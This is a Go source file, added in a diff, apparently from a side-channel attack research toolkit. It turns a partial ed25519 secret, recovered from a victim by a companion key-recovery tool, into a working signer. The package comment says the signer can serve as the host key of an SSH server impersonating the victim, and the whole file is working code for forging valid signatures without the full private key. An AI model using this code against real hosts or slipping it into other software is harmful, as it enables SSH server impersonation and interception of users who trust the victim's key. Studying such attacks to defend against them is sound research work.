@@ -0,0 +1,134 @@
+//Package eddsaSigner allows to use the intermediate edDSA secret H_{0..b-1}(sk) recovered by pfOSSHRecoverEdDSAKey
+//like a regular ed25519 private key. It provides a crypto.Signer as well as an ssh.Signer, so the recovered secret can
+//e.g. be used as the host key of an ssh server impersonating the victim
+package eddsaSigner
+
+import (
+	"bytes"
+	"crypto"
+	"crypto/sha512"
+	"fmt"
+	"io"
+	"pfFingerprint/edwards25519"
+
+	"golang.org/x/crypto/ed25519"
+	"golang.org/x/crypto/ssh"
+)
+
+//ExpandedSecretSize is the length of the intermediate secret H_{0..b-1}(sk)
+const ExpandedSecretSize = 32
+
+//ExpandedSecretSigner implements crypto.Signer for ed25519 using only the expanded secret and the public key.
+//It does not know the seed of the private key
+type ExpandedSecretSigner struct {
+	expandedSecret [ExpandedSecretSize]byte
+	publicKey      ed25519.PublicKey
+}
+
+//NewExpandedSecretSigner returns a signer for publicKey. Returns an error if expandedSecret does not belong to
+//publicKey
+func NewExpandedSecretSigner(expandedSecret []byte, publicKey ed25519.PublicKey) (*ExpandedSecretSigner, error) {
+	if l := len(expandedSecret); l != ExpandedSecretSize {
+		return nil, fmt.Errorf("expanded secret must have %v bytes, got %v", ExpandedSecretSize, l)
+	}
+	if l := len(publicKey); l != ed25519.PublicKeySize {
+		return nil, fmt.Errorf("public key must have %v bytes, got %v", ed25519.PublicKeySize, l)
+	}
+
+	s := &ExpandedSecretSigner{
+		publicKey: make(ed25519.PublicKey, ed25519.PublicKeySize),
+	}
+	copy(s.expandedSecret[:], expandedSecret)
+	copy(s.publicKey, publicKey)
+
+	//recompute public key to catch wrong secrets early
+	var recomputedPubKey edwards25519.ExtendedGroupElement
+	edwards25519.GeScalarMultBase(&recomputedPubKey, &s.expandedSecret)
+	var recomputedPubKeyBytes [32]byte
+	recomputedPubKey.ToBytes(&recomputedPubKeyBytes)
+	if !bytes.Equal(recomputedPubKeyBytes[:], publicKey) {
+		return nil, fmt.Errorf("expanded secret does not match public key %x", []byte(publicKey))
+	}
+
+	return s, nil
+}
+
+//Public returns the ed25519.PublicKey belonging to the expanded secret
+func (s *ExpandedSecretSigner) Public() crypto.PublicKey {
+	return s.publicKey
+}
+
+//Sign signs message with the expanded secret. Like ed25519.PrivateKey.Sign it expects the unhashed
+//message, i.e. opts.HashFunc() must be zero. rand is ignored, as the signature is deterministic
+func (s *ExpandedSecretSigner) Sign(rand io.Reader, message []byte, opts crypto.SignerOpts) ([]byte, error) {
+	if opts.HashFunc() != crypto.Hash(0) {
+		return nil, fmt.Errorf("ed25519 cannot sign hashed message")
+	}
+	return SignWithExpandedSecret(message, s.expandedSecret[:], s.publicKey)
+}
+
+//NewSSHSigner returns an ssh.Signer for the ed25519 key given by expandedSecret and publicKey.
+//It can be used as a host key with ssh.ServerConfig.AddHostKey
+func NewSSHSigner(expandedSecret []byte, publicKey ed25519.PublicKey) (ssh.Signer, error) {
+	s, err := NewExpandedSecretSigner(expandedSecret, publicKey)
+	if err != nil {
+		return nil, err
+	}
+	sshSigner, err := ssh.NewSignerFromSigner(s)
+	if err != nil {
+		return nil, fmt.Errorf("failed to wrap signer : %v", err)
+	}
+	return sshSigner, nil
+}
+
+//SignWithExpandedSecret creates a valid edDSA signature using the secret recovered by pfOSSHRecoverEdDSAKey.
+//The standard derives the nonce from the second half of H(sk), which the side channel does not reveal. We derive
+//it from SHA512(SHA512("nonce"||expandedSecret)||message) instead, so it stays secret and deterministic.
+//Someone knowing the private key can tell that the nonce differs from the one the victim would have used
+func SignWithExpandedSecret(message, expandedSecret []byte, publicKey ed25519.PublicKey) ([]byte, error) {
+	if l := len(expandedSecret); l != ExpandedSecretSize {
+		return nil, fmt.Errorf("intermediate secret must have 32 byte")
+	}
+	var expandedSecretKey [32]byte
+	copy(expandedSecretKey[:], expandedSecret)
+
+	h := sha512.New()
+
+	var noncePrefix, messageDigest, hramDigest [64]byte
+
+	//in the original signature the prefix is the second half of H(sk), that we cannot recover.
+	//It must not be computable from public values, as the nonce would reveal the expanded secret
+	h.Write([]byte("nonce"))
+	h.Write(expandedSecretKey[:])
+	h.Sum(noncePrefix[:0])
+
+	h.Reset()
+	h.Write(noncePrefix[:])
+	h.Write(message)
+	h.Sum(messageDigest[:0])
+
+	var messageDigestReduced [32]byte
+	edwards25519.ScReduce(&messageDigestReduced, &messageDigest)
+	var R edwards25519.ExtendedGroupElement
+	edwards25519.GeScalarMultBase(&R, &messageDigestReduced)
+
+	var encodedR [32]byte
+	R.ToBytes(&encodedR)
+
+	h.Reset()
+	h.Write(encodedR[:])
+	h.Write(publicKey)
+	h.Write(message)
+	h.Sum(hramDigest[:0])
+	var hramDigestReduced [32]byte
+	edwards25519.ScReduce(&hramDigestReduced, &hramDigest)
+
+	var s [32]byte
+	edwards25519.ScMulAdd(&s, &hramDigestReduced, &expandedSecretKey, &messageDigestReduced)
+
+	signature := make([]byte, ed25519.SignatureSize)
+	copy(signature[:], encodedR[:])
+	copy(signature[32:], s[:])
+
+	return signature, nil
+}